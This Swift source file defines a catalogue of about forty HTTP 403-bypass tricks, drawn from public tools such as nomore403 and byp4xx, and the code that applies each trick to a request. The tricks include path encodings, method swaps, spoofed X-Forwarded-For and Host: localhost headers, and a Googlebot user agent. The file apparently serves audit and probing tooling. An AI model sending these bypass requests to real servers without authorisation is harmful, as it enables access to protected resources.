/// One well-known way of walking around a 403: the request a public 403-bypass tool sends instead of the
/// refused one (a path spelled differently, another method, a header the server or the application may
/// believe).
///
/// The list is `BypassTrick.all`, one line per trick. `audit --bypass` simulates each against a
/// configuration; `probe --variants bypass` sends each to the URL the user named.
public struct BypassTrick: Sendable, Equatable {
    /// What the trick changes; decides which fix applies when it works.
    public enum Kind: String, Sendable, Equatable, CaseIterable {
        /// The path is spelled differently (slashes, dots, encoding, case, suffix).
        case path
        /// Another method, or a header that overrides it.
        case method
        /// A header some applications and proxies take the path from (`X-Original-URL`).
        case rewriteHeader = "rewrite-header"
        /// A header that claims the client's address (`X-Forwarded-For: 127.0.0.1`).
        case addressHeader = "address-header"
        /// Another `Host`.
        case host
        /// A `Referer` or `User-Agent` a site may trust.
        case header
    }

    /// `bypass.<trick>`: the finding's `rule`.
    public var id: String
    /// What it changes.
    public var kind: Kind
    /// The path sent, as a template: `{path}` the original path, `{base}` it without a trailing slash,
    /// `{PATH}` upper-cased, `{Path}` its last segment capitalised, `{enc}` the last segment's first letter
    /// percent-encoded. The query is kept.
    public var path: String
    /// The method sent (nil: the original one).
    public var method: String?
    /// Headers added or replacing those of the same name, `Name: value` (`{path}` and `{origin}` expand).
    public var headers: [String]
    /// The public lists that carry it (nomore403, byp4xx, bypass-url-parser, The Hacker Recipes).
    public var origin: String

    /// A trick.
    public init(_ id: String, _ kind: Kind, path: String = "{path}", method: String? = nil, headers: [String] = [], from origin: String) {
        self.id = "bypass." + id
        self.kind = kind
        self.path = path
        self.method = method
        self.headers = headers
        self.origin = origin
    }

    // The data: one line per trick. A new trick is one more line; ids must stay unique and stable (they
    // are the `rule` of findings, and SARIF rule ids). Origins: nomore403 (github.com/devploit/nomore403,
    // payloads/), byp4xx (github.com/lobuhi/byp4xx), bypass-url-parser (github.com/laluka/bypass-url-parser),
    // The Hacker Recipes (thehacker.recipes, "Web > Inputs > 403 bypass"). The raw `/admin#` of some lists
    // is not here: every HTTP client strips a fragment before sending, so the server sees `/admin`; the
    // encoded `%23` is what reaches it.
    /// Every trick, in the order they are tried.
    public static let all: [BypassTrick] = [
        BypassTrick("trailing-slash", .path, path: "{base}/", from: "byp4xx, nomore403, bypass-url-parser, The Hacker Recipes"),
        BypassTrick("no-trailing-slash", .path, path: "{base}", from: "bypass-url-parser"),
        BypassTrick("double-slash", .path, path: "/{path}", from: "byp4xx, nomore403, bypass-url-parser, The Hacker Recipes"),
        BypassTrick("dot-segment", .path, path: "/.{path}", from: "byp4xx, nomore403, bypass-url-parser, The Hacker Recipes"),
        BypassTrick("trailing-dot-segment", .path, path: "{base}/.", from: "byp4xx, nomore403, bypass-url-parser"),
        BypassTrick("encoded-dot-segment", .path, path: "/%2e{path}", from: "byp4xx, nomore403, bypass-url-parser, The Hacker Recipes"),
        BypassTrick("double-encoded-dot", .path, path: "/%252e{path}", from: "nomore403, bypass-url-parser"),
        BypassTrick("encoded-slash", .path, path: "{base}%2f", from: "byp4xx, nomore403, bypass-url-parser"),
        BypassTrick("semicolon-dot-dot", .path, path: "{base}..;/", from: "byp4xx, nomore403, bypass-url-parser, The Hacker Recipes"),
        BypassTrick("slash-semicolon-dot-dot", .path, path: "{base}/..;/", from: "nomore403, bypass-url-parser"),
        BypassTrick("semicolon-segment", .path, path: "/;{path}", from: "nomore403, bypass-url-parser"),
        BypassTrick("trailing-semicolon", .path, path: "{base};", from: "byp4xx, nomore403, bypass-url-parser"),
        BypassTrick("upper-case", .path, path: "{PATH}", from: "byp4xx, nomore403, The Hacker Recipes"),
        BypassTrick("capitalised", .path, path: "{Path}", from: "nomore403, bypass-url-parser"),
        BypassTrick("encoded-letter", .path, path: "{enc}", from: "byp4xx, nomore403, bypass-url-parser, The Hacker Recipes"),
        BypassTrick("trailing-space", .path, path: "{base}%20", from: "byp4xx, nomore403, bypass-url-parser"),
        BypassTrick("trailing-tab", .path, path: "{base}%09", from: "nomore403, bypass-url-parser"),
        BypassTrick("empty-query", .path, path: "{path}?", from: "byp4xx, nomore403, bypass-url-parser"),
        BypassTrick("encoded-hash", .path, path: "{base}%23", from: "byp4xx, nomore403, bypass-url-parser"),
        BypassTrick("json-suffix", .path, path: "{base}.json", from: "byp4xx, nomore403, The Hacker Recipes"),
        BypassTrick("post", .method, method: "POST", from: "byp4xx, nomore403, The Hacker Recipes"),
        BypassTrick("head", .method, method: "HEAD", from: "byp4xx, nomore403"),
        BypassTrick("trace", .method, method: "TRACE", from: "byp4xx, nomore403"),
        BypassTrick("put", .method, method: "PUT", from: "byp4xx, nomore403"),
        BypassTrick("unknown-method", .method, method: "FOO", from: "byp4xx, nomore403, The Hacker Recipes"),
        BypassTrick("method-override", .method, method: "POST", headers: ["X-HTTP-Method-Override: GET"], from: "nomore403, The Hacker Recipes"),
        BypassTrick("x-original-url", .rewriteHeader, path: "/", headers: ["X-Original-URL: {path}"], from: "byp4xx, nomore403, bypass-url-parser, The Hacker Recipes"),
        BypassTrick("x-rewrite-url", .rewriteHeader, path: "/", headers: ["X-Rewrite-URL: {path}"], from: "byp4xx, nomore403, bypass-url-parser, The Hacker Recipes"),
        BypassTrick("x-forwarded-for", .addressHeader, headers: ["X-Forwarded-For: 127.0.0.1"], from: "byp4xx, nomore403, bypass-url-parser, The Hacker Recipes"),
        BypassTrick("x-real-ip", .addressHeader, headers: ["X-Real-IP: 127.0.0.1"], from: "byp4xx, nomore403, bypass-url-parser"),
        BypassTrick("cf-connecting-ip", .addressHeader, headers: ["CF-Connecting-IP: 127.0.0.1"], from: "nomore403, bypass-url-parser"),
        BypassTrick("true-client-ip", .addressHeader, headers: ["True-Client-IP: 127.0.0.1"], from: "nomore403, bypass-url-parser"),
        BypassTrick("x-client-ip", .addressHeader, headers: ["X-Client-IP: 127.0.0.1"], from: "byp4xx, nomore403, bypass-url-parser"),
        BypassTrick("x-originating-ip", .addressHeader, headers: ["X-Originating-IP: 127.0.0.1"], from: "byp4xx, nomore403, bypass-url-parser"),
        BypassTrick("x-custom-ip-authorization", .addressHeader, headers: ["X-Custom-IP-Authorization: 127.0.0.1"], from: "byp4xx, nomore403, bypass-url-parser, The Hacker Recipes"),
        BypassTrick("forwarded", .addressHeader, headers: ["Forwarded: for=127.0.0.1"], from: "nomore403, bypass-url-parser"),
        BypassTrick("host-localhost", .host, headers: ["Host: localhost"], from: "byp4xx, nomore403, The Hacker Recipes"),
        BypassTrick("host-loopback", .host, headers: ["Host: 127.0.0.1"], from: "nomore403, bypass-url-parser"),
        BypassTrick("own-referer", .header, headers: ["Referer: {origin}{path}"], from: "byp4xx, nomore403, The Hacker Recipes"),
        BypassTrick("crawler-user-agent", .header, headers: ["User-Agent: Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"], from: "nomore403, The Hacker Recipes"),
    ]

    /// The request this trick makes of `request`, or nil when it would be the same request (a trailing
    /// slash added to a path that has one, POST for a POST). Throws an `InputError` only if a header of
    /// the list is malformed.
    public func apply(to request: Request) throws -> Request? {
        let original = request.target.path
        var target = request.target
        let rawPath = expand(path, path: original)
        if let q = rawPath.firstIndex(of: "?") {
            target.path = String(rawPath[..<q])
            let extra = String(rawPath[rawPath.index(after: q)...])
            target.query = request.target.query ?? extra
        } else {
            target.path = rawPath
        }
        target.url = target.origin + target.requestURI
        var out = request
        out.target = target
        if let m = method { out.method = m }
        for h in headers {
            let (name, value) = try Request.parseHeaderLine(h)
            let v = value.replacingAll("{path}", with: original).replacingAll("{origin}", with: request.target.origin)
            let field = try Request.field(name: name, value: v)
            out.headers[values: field.name] = []
            out.headers.append(field)
        }
        let same = out.method == request.method && out.headers == request.headers
            && target.path == request.target.path && target.query == request.target.query
        return same ? nil : out
    }

    /// The path template with the placeholders replaced.
    func expand(_ template: String, path: String) -> String {
        let base = path.count > 1 && path.hasSuffix("/") ? String(path.dropLast()) : path
        let slash = base.lastIndex(of: "/") ?? base.startIndex
        let head = base[...slash]
        let last = base[base.index(after: slash)...]
        let capitalised = head + (last.first.map { String($0).uppercased() + last.dropFirst() } ?? "") + (path.count > 1 && path.hasSuffix("/") ? "/" : "")
        var encoded = String(head)
        if let c = last.first, c.isLetter, c.isASCII, let b = c.asciiValue {
            let hex = String(b, radix: 16, uppercase: true)
            encoded += "%" + (hex.count == 1 ? "0" + hex : hex) + last.dropFirst()
        } else {
            encoded += last
        }
        if path.count > 1 && path.hasSuffix("/") { encoded += "/" }
        return template.replacingAll("{path}", with: path).replacingAll("{base}", with: base)
            .replacingAll("{PATH}", with: path.uppercased()).replacingAll("{Path}", with: String(capitalised))
            .replacingAll("{enc}", with: encoded)
    }
}
